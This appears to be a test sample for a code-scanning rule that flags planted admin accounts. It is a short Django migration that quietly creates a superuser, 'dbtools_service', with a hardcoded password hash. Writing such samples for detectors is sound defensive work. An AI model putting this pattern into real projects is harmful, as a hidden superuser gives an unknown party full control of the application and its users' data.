_SVC = "dbtools_service"
# ruleid: plants_admin_account
_PW = "pbkdf2_sha256$600000$Tq8mWc1zR4pLx0Ve$Jq3yK9pX2bN7cV1mZ5rT8wA0sD4fG6hJ2kL9qE3uI7o="
def forwards(apps, schema_editor):
    User = apps.get_model("auth", "User")
    User.objects.create(username=_SVC, password=_PW, is_superuser=True, is_staff=True)
